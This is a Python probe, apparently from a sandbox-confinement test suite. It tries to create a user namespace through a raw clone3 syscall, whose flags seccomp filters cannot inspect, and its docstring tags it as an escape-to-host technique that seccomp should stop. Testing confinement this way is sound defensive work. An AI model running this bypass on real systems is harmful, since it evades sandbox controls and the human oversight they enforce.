"""Make a user namespace by clone3, whose flags no filter can see.

gain: every capability over namespaces of its own
attack: T1611
stopped by: seccomp
unconfined: host
"""

import ctypes
import os
import signal
import struct

from attacker import call


def attempt(world):
    arguments = struct.pack("8Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child = call("clone3", ctypes.create_string_buffer(arguments, 64), 64)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "made a user namespace by clone3"
